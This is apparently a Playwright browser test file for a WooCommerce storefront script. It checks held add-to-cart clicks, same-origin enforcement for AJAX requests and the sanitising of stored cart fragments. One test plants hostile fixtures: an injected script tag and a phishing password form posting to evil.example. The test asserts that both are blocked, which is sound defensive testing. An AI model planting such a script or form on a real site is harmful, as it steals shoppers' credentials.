/**
 * The runtime's held clicks, the request layer's origin check and the stored cart fragments in real Chromium,
 * both tags, on the shop page as the CMS prints it (issue 14 items 1, 2, 7 and 9). Real SVG elements have no
 * click(), which happy-dom cannot show.
 */
import type { BrowserContext, Page } from 'playwright-core';
import { describe, expect, test } from 'vitest';
import { consoleSettled, baseURL, expectNoConsoleErrors, openPage, recorded, BUILD_TAGS, PLAIN_FLOW_TAGS } from './harness';

const ADD_TO_CART_CHUNK = '**/chunks/add-to-cart.widget-*';
const FRAGMENT_NAME = 'wc_fragments_e3a1c9b85f0d4a7c6b2e8f1d0a9c7b56';
const HASH_KEY = 'wc_cart_hash_e3a1c9b85f0d4a7c6b2e8f1d0a9c7b56';

const cartLines = (page: Page) => page.evaluate(() => window.__mock!.state.cart.map((l) => [l.productId, l.quantity]));
const ours = (messages: { type: string; text: string }[]) => messages.filter((m) => m.text.startsWith('[storefront-islands]'));

/** Icons as themes print them inside the buttons: an inline SVG on the loop button, an icon font <i><span> on the post card's. */
async function addIcons(page: Page): Promise<void> {
  await page.evaluate(() => {
    const svg = document.querySelector('.ajax_add_to_cart[data-product_id="318"]')!;
    svg.insertAdjacentHTML(
      'afterbegin',
      '<svg class="cart-icon" width="16" height="16" viewBox="0 0 16 16" aria-hidden="true" focusable="false"><g><path d="M0 0h16v16H0z"></path></g></svg> ',
    );
    const font = document.querySelector('.ajax_add_to_cart[data-product_id="322"]')!;
    font.insertAdjacentHTML('afterbegin', '<i class="awb-icon-cart" aria-hidden="true"><span class="cart-glyph">+</span></i> ');
  });
}

/** The add-to-cart chunk arrives late (a slow network): clicks are really held while it loads. */
const slowChunk = (context: BrowserContext) =>
  context.route(ADD_TO_CART_CHUNK, async (route) => {
    await new Promise((r) => setTimeout(r, 400));
    await route.continue();
  });

describe.each(BUILD_TAGS)('runtime hardening, %s tag', (tag) => {
  test('a click held on an SVG <path> or an <i><span> icon inside an add-to-cart button is replayed: each product added once', async () => {
    const { page, errors } = await openPage('/shop.html', { tag, beforeGoto: slowChunk });
    const url = page.url();
    await addIcons(page);
    await page.click('.ajax_add_to_cart[data-product_id="318"] svg path');
    await page.waitForFunction(() => window.__mock!.state.cart.length === 1, null, { timeout: 10_000 });
    // The post card (.fusion-post-card-cart) and its button are two interaction widgets: the click passes both.
    await page.click('.ajax_add_to_cart[data-product_id="322"] i span');
    await page.waitForFunction(() => window.__mock!.state.cart.length === 2, null, { timeout: 10_000 });
    await page.waitForFunction(() => document.querySelectorAll('.ajax_add_to_cart.loading').length === 0);
    expect(await cartLines(page)).toEqual([
      [318, 1],
      [322, 1],
    ]);
    expect(page.url()).toBe(url);
    // Nothing stuck: a plain click afterwards reaches the mounted widget.
    await page.click('.ajax_add_to_cart[data-product_id="318"]');
    await page.waitForFunction(() => window.__mock!.state.cart.find((l) => l.productId === 318)?.quantity === 2, null, { timeout: 10_000 });
    expect((await recorded(page)).errors).toEqual([]);
    expectNoConsoleErrors(errors);
  });

  test('three adds held while the chunk is more than 3 s late: the first link is followed once, the others stay busy and are added when the code comes before the page leaves', async () => {
    let releaseChunk!: () => void;
    const chunkHeld = new Promise<void>((resolve) => (releaseChunk = resolve));
    const { page, context, messages, errors } = await openPage('/shop.html', {
      tag,
      beforeGoto: (before) =>
        before.route(ADD_TO_CART_CHUNK, async (route) => {
          await chunkHeld;
          await route.continue();
        }),
    });
    // The shop answers the followed link slowly: the page is still here, leaving, when the code comes.
    const followed: string[] = [];
    let answerShop!: () => void;
    const shopHeld = new Promise<void>((resolve) => (answerShop = resolve));
    await context.route(
      (url) => url.searchParams.has('add-to-cart'),
      async (route) => {
        followed.push(new URL(route.request().url()).search);
        await shopHeld;
        await route.fulfill({ contentType: 'text/html', body: '<!doctype html><html lang="en"><title>Shop</title><p>Added.</p></html>' });
      },
    );
    const button = (id: number) => `.ajax_add_to_cart[data-product_id="${id}"]:not(.wc-interactive)`;
    // Where each button is, read before the first click: once a link is being followed, Playwright's element
    // actions wait for the navigation, and the shopper's later taps on a slow machine could come after the stall.
    await page.$eval(button(320), (el) => el.scrollIntoView({ block: 'center' }));
    const at = [];
    for (const id of [318, 320, 322]) {
      const box = (await page.locator(button(id)).boundingBox())!;
      expect([box.y >= 0, box.y + box.height <= page.viewportSize()!.height]).toEqual([true, true]);
      at.push({ x: box.x + box.width / 2, y: box.y + box.height / 2 });
    }
    // While a link is being followed, Playwright's reads and the DevTools protocol's wait for the navigation: the
    // page itself says what the shopper sees (the buttons shown busy, the cart) on each change of the buttons.
    await page.evaluate(() => {
      const report = () => {
        const buttons = [...document.querySelectorAll('.ajax_add_to_cart:not(.wc-interactive)')];
        // (The post card's button is inside a widget of its own, which holds the click and is marked busy.)
        const busy = buttons.filter((el) => el.closest('[aria-busy="true"]'));
        const cart = window.__mock!.state.cart.map((l) => [l.productId, l.quantity]);
        console.debug(`seen ${JSON.stringify({ busy: busy.map((el) => Number(el.getAttribute('data-product_id'))), cart })}`);
      };
      new MutationObserver(report).observe(document.body, { subtree: true, attributes: true, attributeFilter: ['class', 'aria-busy'] });
    });
    const seen = () => {
      const last = messages.findLast((m) => m.text.startsWith('seen '));
      return last && JSON.parse(last.text.slice('seen '.length));
    };
    for (const { x, y } of at) await page.mouse.click(x, y);
    // The stall (3 s after the first held click): one link followed, whatever the number of buttons held.
    await expect.poll(() => followed.length, { timeout: 15_000 }).toBe(1);
    expect(followed).toEqual(['?add-to-cart=318']);
    expect(seen()).toEqual({ busy: [318, 320, 322], cart: [] });
    releaseChunk();
    await expect.poll(seen, { timeout: 15_000 }).toEqual({
      busy: [],
      cart: [
        [320, 1],
        [322, 1],
      ],
    });
    expect(followed).toEqual(['?add-to-cart=318']);
    // (The page is leaving: no round trip to it. The warning came before the last 'seen' message polled above.)
    const warnings = ours(messages).filter((m) => m.type === 'warning');
    expect(warnings).toHaveLength(1);
    expect(warnings[0]!.text).toMatch(/add-to-cart: .*goes ahead without it/);
    expectNoConsoleErrors(errors);
    answerShop();
    await page.waitForURL(/[?&]add-to-cart=318/, { timeout: 10_000 });
    expect(followed).toEqual(['?add-to-cart=318']);
  });

  test('stored fragments with foreign keys: only the mini-cart is swapped, never a script, and the shop answers the rest', async () => {
    const core =
      '<div class="widget_shopping_cart_content"><ul class="woocommerce-mini-cart cart_list product_list_widget "><li class="woocommerce-mini-cart-item mini_cart_item"><a href="/product/canvas-tote/">Canvas tote</a><span class="quantity">1 &times; 24</span></li></ul><script id="planted">window.planted = true</script></div>';
    const stored = {
      'div.widget_shopping_cart_content': core,
      'header.fusion-header-wrapper':
        '<header class="fusion-header-wrapper"><form id="phish" action="https://evil.example/"><label>Password <input name="pwd"></label></form></header>',
      html: '<html><body><p id="replaced-page">gone</p></body></html>',
    };
    const { page, messages, errors } = await openPage('/shop.html', {
      tag,
      storage: {
        cookies: { woocommerce_cart_hash: 'aaaabbbbccccddddaaaabbbbccccdddd', woocommerce_items_in_cart: '1' },
        session: {
          [FRAGMENT_NAME]: JSON.stringify(stored),
          [HASH_KEY]: 'aaaabbbbccccddddaaaabbbbccccdddd',
          wc_cart_created: String(Date.now() - 1000),
        },
        local: { [HASH_KEY]: 'aaaabbbbccccddddaaaabbbbccccdddd' },
      },
    });
    await page.waitForFunction(() => window.__mock!.state.log.some((e) => e.endpoint === 'get_refreshed_fragments'), null, {
      timeout: 10_000,
    });
    await page.evaluate(() => window.StorefrontIslands!.ready());
    expect(await page.$('#phish')).toBeNull();
    expect(await page.$('#replaced-page')).toBeNull();
    expect(await page.$('header.fusion-header-wrapper nav, header.fusion-header-wrapper .fusion-widget-cart-number')).not.toBeNull();
    expect(await page.$('.widget_shopping_cart_content script')).toBeNull();
    expect(await page.evaluate(() => (window as unknown as { planted?: boolean }).planted)).toBeUndefined();
    await consoleSettled(page);
    const warnings = ours(messages).filter((m) => m.type === 'warning' && m.text.includes(FRAGMENT_NAME));
    expect(warnings).toHaveLength(1);
    expect(warnings[0]!.text).toContain('header.fusion-header-wrapper');
    expectNoConsoleErrors(errors);
  });
});

describe.each(PLAIN_FLOW_TAGS)('runtime hardening, %s tag', (tag) => {
  test('the chunk fails: the click on the icon still follows the link natively', async () => {
    const { page } = await openPage('/shop.html', {
      tag,
      beforeGoto: (context) => context.route(ADD_TO_CART_CHUNK, (route) => route.abort('failed')),
    });
    await addIcons(page);
    await Promise.all([
      page.waitForURL(/[?&]add-to-cart=318/, { timeout: 10_000 }),
      page.click('.ajax_add_to_cart[data-product_id="318"] svg path'),
    ]);
  });

  test('the chunk stalls: after a few seconds the held click follows the link, with one warning naming the widget', async () => {
    const { page, messages } = await openPage('/shop.html', { tag, beforeGoto: (context) => context.route(ADD_TO_CART_CHUNK, () => {}) });
    await addIcons(page);
    await Promise.all([
      page.waitForURL(/[?&]add-to-cart=322/, { timeout: 10_000 }),
      page.click('.ajax_add_to_cart[data-product_id="322"] i span'),
    ]);
    await consoleSettled(page);
    const warnings = ours(messages).filter((m) => m.type === 'warning');
    expect(warnings).toHaveLength(1);
    expect(warnings[0]!.text).toMatch(/add-to-cart: .*did not load/);
  });

  test('a wc_ajax_url on another origin: no request leaves, one warning, an inline error, and the link stays', async () => {
    const { page, requests, messages, errors } = await openPage('/shop.html', { tag });
    const elsewhere = baseURL().replace('127.0.0.1', 'localhost');
    expect(elsewhere).not.toBe(baseURL());
    await page.evaluate((origin) => {
      for (const name of ['woocommerce_params', 'wc_add_to_cart_params', 'wc_cart_fragments_params']) {
        const g = (window as unknown as Record<string, { wc_ajax_url?: string } | undefined>)[name];
        if (g) g.wc_ajax_url = `${origin}/?wc-ajax=%%endpoint%%`;
      }
    }, elsewhere);
    await page.click('.ajax_add_to_cart[data-product_id="318"]');
    await page.waitForSelector('.storefront-islands-cart-error');
    expect(requests.filter((u) => u.startsWith(elsewhere))).toEqual([]);
    expect(await page.evaluate(() => window.__mock!.state.log.length)).toBe(0);
    await consoleSettled(page);
    const warnings = ours(messages).filter((m) => m.type === 'warning');
    expect(warnings).toHaveLength(1);
    expect(warnings[0]!.text).toContain(elsewhere);
    expect(await page.getAttribute('.ajax_add_to_cart[data-product_id="318"]', 'href')).toBe('/shop/?add-to-cart=318');
    expectNoConsoleErrors(errors);
  });
});
